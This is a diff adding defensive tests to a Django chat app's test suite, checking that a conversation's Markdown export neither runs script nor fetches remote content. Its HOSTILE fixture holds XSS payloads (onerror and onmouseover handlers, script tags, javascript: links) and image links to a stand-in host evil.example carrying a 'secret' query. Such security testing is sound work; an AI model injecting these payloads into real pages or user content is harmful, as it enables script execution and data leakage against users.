@@ -10,6 +10,7 @@ from django.test import AsyncClient
 
 from chat.models import Image, Message
 from tests.helpers.factories import conversation_factory, image_factory, user_factory
+from tests.helpers.markdown import elements, live_parts, shown_text
 
 pytestmark = pytest.mark.django_db
 
@@ -236,3 +237,57 @@ def test_anonymous_is_told_to_log_in(client, conversation, kind):
     response = client.get(url(conversation, kind))
     assert response.status_code == 401
     assert response.json()["error"]["code"] == "not_authenticated"
+
+
+# --- hostile content --------------------------------------------------------------
+
+HOSTILE = (
+    "<img src=x onerror=alert(1)> <script>alert(2)</script>\n\n"
+    "![x](https://evil.example/?q=secret) ![y][1] [z](javascript:alert(3))\n\n"
+    "[1]: https://evil.example/y.png\n"
+)
+
+
+@pytest.fixture
+def hostile(owner):
+    """Someone else's words in every part of the transcript: title, instructions,
+    a question, an author's name, the thinking and the answer."""
+    conversation = conversation_factory(
+        owner=owner,
+        title="<img src=x onerror=alert(0)> *Plant* [x](javascript:y)",
+        system_prompt=HOSTILE,
+    )
+    teammate = user_factory(first_name="<b onmouseover=alert(4)>Bob</b>")
+    message(conversation, text=HOSTILE, author=teammate, images=[image_factory(owner=owner)])
+    message(conversation, role="assistant", text=HOSTILE, reasoning=HOSTILE, model=VL)
+    return conversation
+
+
+def exported_markdown(api, conversation):
+    archive = unzip(api.get(url(conversation, "zip")))
+    photos = tuple(n for n in archive.namelist() if n.startswith("photos/"))
+    return archive.read("conversation.md").decode(), photos
+
+
+def test_markdown_export_runs_and_fetches_nothing_in_a_viewer(api, hostile, marked):
+    markdown, photos = exported_markdown(api, hostile)
+    html = marked.render(markdown)
+    assert live_parts(html, pictures=photos) == []
+    assert "evil.example" not in html
+    # The instructions, the question, the thinking and the answer.
+    assert shown_text(html).count("Picture not shown: x") == 4
+
+
+def test_markdown_export_title_line_is_plain_text(api, hostile, marked):
+    markdown, _ = exported_markdown(api, hostile)
+    title = markdown.split("\n", 1)[0]
+    assert title.startswith("# ")
+    html = marked.render(title)
+    assert [tag for tag, _ in elements(html)] == ["h1"]
+    assert shown_text(html).strip() == "<img src=x onerror=alert(0)> *Plant* [x](javascript:y)"
+
+
+def test_markdown_export_keeps_the_photos_the_zip_holds(api, hostile, marked):
+    markdown, photos = exported_markdown(api, hostile)
+    shown = [a["src"] for tag, a in elements(marked.render(markdown)) if tag == "img"]
+    assert shown == list(photos) and len(shown) == 1
